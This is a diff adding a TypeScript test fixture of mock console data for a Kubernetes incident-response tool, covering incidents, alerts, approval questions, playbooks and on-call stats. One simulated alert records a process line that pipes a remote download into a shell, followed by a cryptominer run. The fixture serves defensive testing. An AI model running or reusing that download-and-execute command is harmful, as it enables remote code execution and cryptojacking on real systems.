@@ -1,0 +1,414 @@
+import type {
+  AlertSample,
+  ConsoleOverview,
+  ConsolePeople,
+  ConsoleQuestion,
+  ConsoleSession,
+  ListedIncident,
+  ShownIncident,
+  ShownRecords,
+  ShownStep,
+} from '../../../core/console/console.schema.ts';
+import type { Answers } from './stand-in.ts';
+
+/** Incidents as the API says them, at times that are near the reader's. */
+
+const sha = (letter: string): string => letter.repeat(64);
+export const at = (minutes: number): string => new Date(Date.now() + minutes * 60_000).toISOString();
+const pod = 'pod/shop/cart-7d9c5b6f4-x2x8k';
+
+export const session: ConsoleSession = {
+  person: { id: 'ada', name: 'Ada Byron' },
+  roles: ['admin'],
+  namespaces: null,
+  csrf: 'csrf-of-ada',
+  endsAt: at(480),
+  idleMinutes: 30,
+  cluster: 'prod-1',
+  version: '0.1.0',
+};
+
+export function listed(number: number, changes: Partial<ListedIncident> = {}): ListedIncident {
+  return {
+    key: String(number).padStart(22, 'k'),
+    revision: 1,
+    id: `incident/prod-1/shop/Deployment/cart-${number}`,
+    run: `run-${number}`,
+    title: `deployment/shop/cart-${number}`,
+    cluster: 'prod-1',
+    namespace: 'shop',
+    kind: 'workload',
+    severity: 'medium',
+    state: 'open',
+    reached: 'detected',
+    verdict: 'unknown',
+    openedAt: at(-12 - number),
+    changedAt: at(-1),
+    closedAt: null,
+    alerts: 2,
+    rules: ['Terminal shell in container'],
+    pods: [pod],
+    playbooks: ['ask-about-shell'],
+    openQuestions: 0,
+    contained: 0,
+    ...changes,
+  };
+}
+
+export const cart = listed(1, {
+  id: 'incident/prod-1/shop/Deployment/cart',
+  title: 'deployment/shop/cart',
+  severity: 'critical',
+  reached: 'contained',
+  openedAt: at(-3),
+  alerts: 3,
+  rules: ['Drop and execute new binary in container', 'Outbound connection to C2 servers'],
+  playbooks: ['contain-dropped-binary'],
+  openQuestions: 1,
+  contained: 1,
+});
+
+export const incidents: readonly ListedIncident[] = [
+  cart,
+  listed(2, { title: 'deployment/shop/web', rules: ['Terminal shell in container'], severity: 'low', openQuestions: 1 }),
+  listed(3, {
+    title: 'node/worker-7',
+    kind: 'node',
+    namespace: null,
+    severity: 'high',
+    rules: ['Linux kernel module injection detected'],
+    alerts: 1,
+  }),
+  listed(4, {
+    title: 'statefulset/pay/ledger',
+    namespace: 'pay',
+    severity: 'high',
+    reached: 'eradicated',
+    rules: ['Read sensitive file untrusted'],
+    alerts: 41,
+  }),
+  listed(5, { title: 'cronjob/batch/report', namespace: 'batch', severity: 'info', openedAt: at(-60 * 26) }),
+];
+
+export const question: ConsoleQuestion = {
+  id: `b_${'q'.repeat(24)}`,
+  kind: 'question',
+  incident: { key: cart.key, title: 'deployment/shop/cart', severity: 'critical', cluster: 'prod-1', namespace: 'shop' },
+  text: 'Is the new binary in cart-7d9c5b6f4-x2x8k expected?',
+  digest: sha('d'),
+  state: 'open',
+  outcome: null,
+  happened: ['User root ran kdevtmpfsi in cart-…x2x8k', '3 alerts, image signed'],
+  contained: [
+    { text: 'Pod cart-7d9c5b6f4-x2x8k quarantined', sure: 'proven by test', since: at(-3), until: at(237), detail: null },
+  ],
+  evidence: [
+    { name: 'pod.yaml', sha256: sha('a'), bytes: 4210 },
+    { name: 'logs/cart.txt', sha256: sha('b'), bytes: 120_400 },
+  ],
+  left: '2 of 3 pods ready',
+  choices: [
+    {
+      id: 'release',
+      label: 'Yes: release pod',
+      quorum: 2,
+      votes: 1,
+      destructive: false,
+      weakens: true,
+      needsReason: true,
+      target: null,
+      form: {},
+      changes: ['cart-7d9c5b6f4-x2x8k: the quarantine label is removed'],
+      blastRadius: [pod],
+      notes: [],
+    },
+    {
+      id: 'remove',
+      label: 'No: rotate secrets and delete pod',
+      quorum: 1,
+      votes: 0,
+      destructive: true,
+      weakens: false,
+      needsReason: true,
+      target: 'cart-7d9c5b6f4-x2x8k',
+      form: {},
+      changes: ['cart-7d9c5b6f4-x2x8k is deleted; its Deployment starts another one', 'Secret cart-db is rotated'],
+      blastRadius: [pod, 'secret/shop/cart-db', 'deployment/shop/cart'],
+      notes: ['The new pod reads the new password.'],
+    },
+  ],
+  votes: [{ person: 'Grace Hopper', choice: 'release', at: at(-1), reason: 'Our own migration job' }],
+  level: { group: 'oncall', until: at(12), next: 'leads', people: ['Ada Byron', 'Grace Hopper'] },
+  deadline: at(72),
+  onSilence: 'The pod stays quarantined. Nothing is deleted.',
+  live: true,
+  mine: { may: true, why: null, said: null },
+};
+
+export const otherQuestion: ConsoleQuestion = {
+  ...question,
+  id: `b_${'r'.repeat(24)}`,
+  incident: { ...question.incident, key: listed(2).key, title: 'deployment/shop/web', severity: 'low' },
+  text: 'Is the shell in web-856c7d8f9-8qgc4 yours, or expected?',
+  happened: ['User root ran bash in web-…8qgc4'],
+  contained: [],
+  choices: question.choices.slice(0, 1),
+  votes: [],
+  level: { group: 'platform', until: at(25), next: null, people: ['Linus Pauling'] },
+  mine: { may: false, why: 'You are not in the group platform.', said: null },
+};
+
+const step = (changes: Partial<ShownStep>): ShownStep => ({
+  key: 'step-1',
+  playbook: 'contain-dropped-binary',
+  action: 'quarantinePod',
+  title: 'Quarantine the pod',
+  target: pod,
+  effect: 'reversible',
+  state: 'verified',
+  detail: 'a connection from outside was refused',
+  startedAt: at(-3),
+  endedAt: at(-3),
+  proof: [{ at: at(-3), state: 'verified', detail: 'a connection from outside was refused' }],
+  changes: [{ target: pod, what: 'quarantine label added' }],
+  ...changes,
+});
+
+const sample: AlertSample = {
+  id: 'alert-1',
+  at: at(-3),
+  rule: 'Drop and execute new binary in container',
+  severity: 'critical',
+  title: 'kdevtmpfsi ran',
+  sensor: 'falco',
+  node: 'worker-7',
+  pod: 'shop/cart-7d9c5b6f4-x2x8k',
+  container: 'cart',
+  image: 'registry.example.com/shop/cart:1.4.2',
+  processes: [
+    { name: 'nginx', exe: '/usr/sbin/nginx', commandLine: 'nginx: worker process', user: 'www-data', pid: 41 },
+    { name: 'sh', exe: '/bin/sh', commandLine: 'sh -c "curl -s http://203.0.113.7/x | sh"', user: 'root', pid: 812 },
+    {
+      name: 'kdevtmpfsi',
+      exe: '/tmp/.x/kdevtmpfsi',
+      commandLine: '/tmp/.x/kdevtmpfsi -o pool.example.net:3333',
+      user: 'root',
+      pid: 815,
+    },
+  ],
+  request: null,
+  doubt: null,
+  novelty: 'This program has not run in cart before.',
+  mitre: ['TA0003', 'T1496'],
+};
+
+const person = (name: string) => ({ kind: 'person', name }) as const;
+const engine = { kind: 'engine', name: 'engine' } as const;
+const playbook = { kind: 'playbook', name: 'contain-dropped-binary' } as const;
+const entry = (number: number, kind: string, text: string, changes: Partial<ShownIncident['timeline'][number]> = {}) => ({
+  number,
+  at: at(-3 + number / 10),
+  kind,
+  actor: engine,
+  text,
+  action: null,
+  target: null,
+  ...changes,
+});
+
+export const shownIncident: ShownIncident = {
+  incident: cart,
+  live: true,
+  verdictWhy: null,
+  timeline: [
+    entry(1, 'incident.opened', '1 × Drop and execute new binary in container', { actor: { kind: 'sensor', name: 'falco' } }),
+    entry(2, 'playbook.started', 'Contain a pod that ran a binary which its image does not have', { actor: playbook }),
+    entry(3, 'step.applied', `Quarantine the pod: ${pod}`, { actor: playbook, action: 'quarantinePod', target: pod }),
+    entry(4, 'step.checked', `quarantinePod on ${pod}: verified (a connection from outside was refused)`, {
+      action: 'quarantinePod',
+      target: pod,
+    }),
+    entry(5, 'alert.joined', '2 × Outbound connection to C2 servers', { actor: { kind: 'sensor', name: 'falco' } }),
+    entry(6, 'step.failed', `snapshotMemory on ${pod}: the node has no room for it`, { action: 'snapshotMemory', target: pod }),
+    entry(7, 'question.asked', question.text),
+    entry(8, 'vote.accepted', 'Yes: release pod: “Our own migration job”', { actor: person('Grace Hopper') }),
+  ],
+  steps: [
+    step({}),
+    step({
+      key: 'step-2',
+      action: 'snapshotPodState',
+      title: 'Keep the state of the pod',
+      detail: '2 files',
+      proof: [],
+      changes: [],
+    }),
+    step({
+      key: 'step-3',
+      action: 'snapshotMemory',
+      title: 'Keep the memory of the pod',
+      state: 'failed',
+      detail: 'the node has no room for it',
+      proof: [],
+      changes: [],
+    }),
+  ],
+  leases: [
+    {
+      id: 'lease-1',
+      action: 'quarantinePod',
+      title: 'Quarantine the pod',
+      target: pod,
+      state: 'active',
+      startedAt: at(-3),
+      until: at(237),
+      renewals: 0,
+      onSilence: 'It is renewed, and the next level is asked.',
+      question: `b_${'l'.repeat(24)}`,
+    },
+  ],
+  alerts: [
+    { rule: sample.rule, severity: 'critical', pod: sample.pod, count: 1, firstSeen: at(-3), lastSeen: at(-3) },
+    {
+      rule: 'Outbound connection to C2 servers',
+      severity: 'high',
+      pod: sample.pod,
+      count: 2,
+      firstSeen: at(-3),
+      lastSeen: at(-2),
+    },
+  ],
+  samples: [sample],
+  blastRadius: {
+    workload: 'deployment/shop/cart',
+    ready: 2,
+    pods: 3,
+    at: at(-1),
+    objects: [
+      { name: pod, kind: 'Pod', state: 'cut', by: ['Quarantine the pod'] },
+      { name: 'secret/shop/cart-db', kind: 'Secret', state: 'planned', by: ['Rotate the secret'] },
+      { name: 'service/shop/cart', kind: 'Service', state: 'reaches', by: [] },
+      { name: 'deployment/shop/checkout', kind: 'Deployment', state: 'reaches', by: [] },
+    ],
+  },
+  evidence: [
+    {
+      manifest: sha('e'),
+      target: pod,
+      artefacts: [
+        { name: 'pod.yaml', sha256: sha('a'), bytes: 4210, partial: null },
+        { name: 'logs/cart.txt', sha256: sha('b'), bytes: 120_400, partial: 'the last 5 000 lines' },
+      ],
+      command: `firebreak evidence get ${sha('e').slice(0, 12)} --reason "…"`,
+    },
+  ],
+  questions: [question],
+  tickets: [{ id: 'SEC-4711', url: 'https://tickets.example/SEC-4711' }],
+  thread: 'https://acme.slack.example/archives/C0SECURITY/p1',
+  temporal: 'https://temporal.example/namespaces/default/workflows/w',
+  proof: { whole: true, findings: [], stored: 8, leftOut: 0, head: sha('f') },
+};
+
+export const records: ShownRecords = {
+  proof: shownIncident.proof,
+  records: shownIncident.timeline.map(({ number, at: when, kind }) => ({
+    number,
+    at: when,
+    kind,
+    actor: 'engine',
+    body: { text: 'as recorded' },
+    keyId: 'cell-prod-1',
+    signature: 'c2lnbmF0dXJl',
+    previous: sha(String(number - 1)),
+    hash: sha(String(number)),
+  })),
+};
+
+export const overview: ConsoleOverview = {
+  at: at(0),
+  days: 30,
+  clusters: [
+    { name: 'prod-1', open: 5, critical: 1, contained: 1, lastAlertAt: at(-2) },
+    { name: 'prod-2', open: 0, critical: 0, contained: 0, lastAlertAt: null },
+  ],
+  sensors: [
+    { cluster: 'prod-1', name: 'falco', alerts: 1_204, lastAlertAt: at(-2) },
+    { cluster: 'prod-1', name: 'tetragon', alerts: 87, lastAlertAt: at(-44) },
+  ],
+  containments: [
+    { incident: cart.key, title: 'deployment/shop/cart', namespace: 'shop', severity: 'critical', contained: 1, since: at(-3) },
+  ],
+  guardrails: {
+    protectedNamespaces: ['kube-system', 'firebreak'],
+    restraints: [
+      {
+        id: 'r-1',
+        mode: 'freeze',
+        title: 'Nothing automatic in pay',
+        owner: 'Grace Hopper',
+        reason: 'Migration of the ledger',
+        until: at(90),
+      },
+    ],
+  },
+  suppressions: [
+    {
+      id: 's-1',
+      title: 'Terminal shell in container, in batch/report',
+      owner: 'Ada Byron',
+      reason: 'Known job, will be rewritten',
+      upTo: 'low',
+      until: at(60 * 24 * 6),
+      hidden: 12,
+    },
+  ],
+  playbooks: [
+    {
+      id: 'contain-dropped-binary',
+      title: 'Contain a pod that ran a binary which its image does not have',
+      enabled: true,
+      rules: ['Drop and execute new binary in container'],
+      runs: 14,
+      verdicts: { true_positive: 3, suspicious: 1, benign: 9, unknown: 1 },
+    },
+    {
+      id: 'ask-about-shell',
+      title: 'Ask who opened a shell',
+      enabled: true,
+      rules: ['Terminal shell in container'],
+      runs: 61,
+      verdicts: { true_positive: 0, suspicious: 2, benign: 55, unknown: 4 },
+    },
+  ],
+  times: { toContain: { p50: 0.3, p90: 1.2 }, toDecide: { p50: 190, p90: 840 } },
+  questions: { asked: 75, decided: 66, expired: 7, open: 2, quickApprovals: 3 },
+};
+
+export const people: ConsolePeople = {
+  since: at(-60 * 24 * 30),
+  people: [
+    { person: 'ada', name: 'Ada Byron', questions: 48, answers: 41, quickApprovals: 1, shifts: 12, perShift: 4, mostInAShift: 9 },
+    {
+      person: 'grace',
+      name: 'Grace Hopper',
+      questions: 27,
+      answers: 25,
+      quickApprovals: 2,
+      shifts: 10,
+      perShift: 2.7,
+      mostInAShift: 6,
+    },
+  ],
+};
+
+/** What somebody with all roles is answered. */
+export const answers = (): Answers => ({
+  session,
+  incidents: { items: [...incidents], next: null },
+  incident: shownIncident,
+  records,
+  questions: { items: [question, otherQuestion] },
+  question,
+  overview,
+  people,
+});
